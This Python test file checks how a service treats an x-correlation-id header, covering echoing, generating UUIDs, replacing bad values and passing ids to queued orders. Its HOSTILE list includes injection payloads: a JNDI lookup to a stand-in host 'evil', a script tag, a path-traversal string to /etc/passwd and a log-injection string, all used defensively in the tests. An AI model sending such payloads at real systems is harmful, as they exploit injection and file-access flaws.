"""The correlation id: taken, made, replaced where it could do harm, and passed on."""

from __future__ import annotations

import uuid

import pytest

from tests.examples.service.running import Service

HEADER = "x-correlation-id"
HOSTILE = [
    "",
    " ",
    "-starts-with-a-dash",
    "a" * 129,
    'x", "level": "fatal',
    "line\tbreak",
    "${jndi:ldap://evil}",
    "<script>alert(1)</script>",
    "ünïcode",
    "../../etc/passwd",
    "a b",
    "abc\x7f",
]


def test_an_id_goes_out_as_it_came_in(service: Service) -> None:
    answer = service.get("/products/1", [(HEADER, "order-17.A_b")])
    assert answer.headers.get_list(HEADER) == ["order-17.A_b"]


@pytest.mark.parametrize("path", ["/products/1", "/metrics", "/health/detailed", "/no/such/path"])
def test_a_request_without_one_gets_one_of_its_own(service: Service, path: str) -> None:
    first, second = (service.get(path).headers[HEADER] for _ in range(2))
    assert first != second
    assert uuid.UUID(first).version == 4


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_one_is_replaced_and_never_logged(service: Service, hostile: str) -> None:
    answer = service.get("/products/1", [(HEADER, hostile)])
    lines = service.lines()
    assert uuid.UUID(answer.headers[HEADER])
    assert {line["correlation_id"] for line in lines} == {answer.headers[HEADER]}
    assert hostile.strip() == "" or hostile not in str(lines)
    assert [line["message"] for line in lines] == ["a correlation id was replaced", "request"]


def test_two_ids_are_as_good_as_none(service: Service) -> None:
    answer = service.get("/products/1", [(HEADER, "one"), (HEADER, "two")])
    assert answer.headers[HEADER] not in {"one", "two", "one, two"}


def test_an_order_is_processed_under_the_id_of_the_request_that_placed_it(service: Service) -> None:
    service.set("queue_errors", 1)
    service.ask("POST", "/orders?product_id=p-9", [(HEADER, "placed-here")])
    service.live()
    [line] = [line for line in service.lines("order cannot be processed") if line["order"] == "p-9"]
    assert line["correlation_id"] == "placed-here"
    assert line["trace_id"]


def test_an_id_ends_with_its_request(service: Service) -> None:
    service.get("/products/1", [(HEADER, "first")])
    service.set("errors", 1)
    service.get("/products/1", [(HEADER, "second")])
    service.run(service.state.burdens.carry())
    service.set("panic")
    service.run(service.state.burdens.carry())
    assert service.lines("the program dies")[0]["correlation_id"] is None
